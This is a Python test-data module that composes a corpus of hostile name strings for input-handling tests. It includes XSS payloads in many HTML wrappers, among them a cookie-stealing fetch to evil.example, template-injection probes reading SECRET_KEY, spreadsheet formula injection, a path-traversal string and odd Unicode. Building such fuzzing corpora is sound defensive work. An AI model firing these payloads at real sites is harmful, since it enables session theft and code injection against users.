"""Texts that a caller could put into a name: made of parts, so that every part stands in every place."""

RUN = [
    *("alert(1)", "window.hit=1", "top.hit=1", "fetch('//evil.example/'+document.cookie)"),
    *("document.body.innerHTML=''", "import('//evil.example/x.js')"),
]
WRAPPED = [
    *("<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>"),
    *("<svg><script>{}</script></svg>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>"),
    *("<a href='javascript:{}'>x</a>", '" onmouseover="{}', "' autofocus onfocus='{}", "` onclick=`{}"),
    *("<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>"),
    *(
        "<math><mtext><script>{}</script></mtext></math>",
        "<!--><img src=x onerror={}>-->",
        "<![CDATA[<script>{}</script>]]>",
    ),
    *("<style>@import '//evil.example/{}'</style>", "<meta http-equiv=refresh content='0;javascript:{}'>"),
    *(
        "<form action=javascript:{}><button>x</button></form>",
        "<base href='//evil.example/{}'>",
        "\\u003cscript\\u003e{}",
    ),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "%3Cscript%3E{}%3C/script%3E",
        "<link rel=stylesheet href='//evil.example/{}'>",
    ),
    *("<object data='javascript:{}'></object>", "<template><script>{}</script></template>", "]]>'\"--><b>{}</b>"),
]
TEMPLATES = [
    *("{{ 7*7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}"),
    *(
        "%(name)s",
        "%s%n",
        "{0.__class__}",
        "{name}",
        "__proto__",
        "constructor",
        "toString",
        "undefined",
        "null",
        "NaN",
    ),
]
FORMULAS = ["=1+1", "+1+1", "-1", "@SUM(A1)", '=HYPERLINK("//evil.example")', "=cmd|' /C calc'!A0", "|calc", "%0A=1"]
ODD = [
    *("‮abc‬", "⁦⁧abc⁩", "​‌‍x", "a" + "́" * 60, "\U0001f469‍\U0001f4bb", "﷽" * 9, "ﷺ", " x "),
    *("\u2028x\u2029", "\ufeffx", "W" * 190, "一" * 190, "x\u0085y", "\U000e0041x", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "../../etc/passwd"),
]
CORPUS = [wrap.replace("{}", run) for run in RUN for wrap in WRAPPED] + TEMPLATES + FORMULAS + ODD
FIT = [text for text in CORPUS if len(text) <= 190]
LONG = ["x" * 4000, "<b>" * 1300, "‮" * 2000 + "x" * 2000]
